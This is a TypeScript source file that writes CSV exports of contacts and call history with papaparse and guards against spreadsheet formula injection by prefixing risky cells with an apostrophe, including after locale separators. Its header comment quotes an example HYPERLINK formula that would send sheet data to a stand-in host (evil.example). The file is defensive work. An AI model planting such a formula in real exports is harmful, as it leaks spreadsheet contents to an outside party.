/**
 * CSV a spreadsheet reads as text (RFC 4180, CRLF, UTF-8), written with papaparse: the contact
 * export (contacts-io/contact-csv.ts), the import's failures report and the call history.
 *
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
 * return) as a formula, and coworkers' contact fields are untrusted (a name
 * `=HYPERLINK("https://evil.example/?"&A1)` would send the sheet's data away). Every such cell is
 * written with a leading apostrophe, which spreadsheets read as "this is text" and do not show
 * (papaparse's `escapeFormulae`). Reading a CSV takes that apostrophe off again, so an E.164
 * number written as `'+4930…` comes back as `+4930…`.
 *
 * The guard has to hold for every reader, not only one that splits on commas: Excel splits a CSV
 * on the list separator of its locale (`;` in German, French, Dutch… Excel; a tab when pasted or
 * opened as text), so a name `Weber;=HYPERLINK(…);` would start a cell with `=` there. So every
 * cell holding a `;`, `,`, tab or quote is quoted (one cell for a reader of any separator that
 * meets it at the start of a cell), and, since a reader of another separator meets most cells in
 * the middle of one of its own (where quotes are plain characters), a formula character right
 * after a `;`, `,`, tab or line break inside a cell (quotes between them aside) gets the
 * apostrophe too: `Weber;'=HYPERLINK(…)`. Reading takes those apostrophes off again.
 */
import Papa from 'papaparse';

/**
 * What a CSV saved as a file begins with: UTF-8's byte-order mark (U+FEFF). Excel opens a CSV
 * without it in the computer's "ANSI" code page, so "Müller" shows as "MÃ¼ller"; Callbar's import
 * and other readers of CSV UTF-8 skip it. Not for a pipe (a script reads the text as it is).
 */
export const CSV_FILE_MARK = '\uFEFF';

/** What starts a formula in a spreadsheet; such a cell is written after an apostrophe. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A cell neutralised by an export (or by hand, the same way). */
const NEUTRALISED = /^'[=+\-@\t\r]/;
/** A formula character where a reader splitting on `;`, `,`, a tab or lines starts a cell. */
const FORMULA_AFTER_SEPARATOR = /([;,\t\r\n]"*)(?=[=+\-@])/g;
/** The same, neutralised. */
const NEUTRALISED_AFTER_SEPARATOR = /([;,\t\r\n]"*)'(?=[=+\-@])/g;

/** What a reader in some locale splits cells on, besides line ends (and the quote). */
const SEPARATOR_OR_QUOTE = /[;,\t"]/;

const UNPARSE: Papa.UnparseConfig = {
  newline: '\r\n',
  escapeFormulae: FORMULA_START,
  quotes: (value: unknown) => SEPARATOR_OR_QUOTE.test(String(value)),
};

/** Any cells as CSV lines (the failures report); formulas neutralised the same way. */
export function csvTable(rows: readonly (readonly (string | number | null)[])[]): string {
  return (
    Papa.unparse(
      rows.map((row) => row.map(cellText)),
      UNPARSE,
    ) + '\r\n'
  );
}

/** A cell's text, a formula character after a separator inside it neutralised (see above). */
function cellText(value: string | number | null): string {
  return value === null ? '' : String(value).replace(FORMULA_AFTER_SEPARATOR, "$1'");
}

/** A cell as it was before an export neutralised it. */
export function restoreCell(cell: string): string {
  const inside = cell.replace(NEUTRALISED_AFTER_SEPARATOR, '$1');
  return NEUTRALISED.test(inside) ? inside.slice(1) : inside;
}
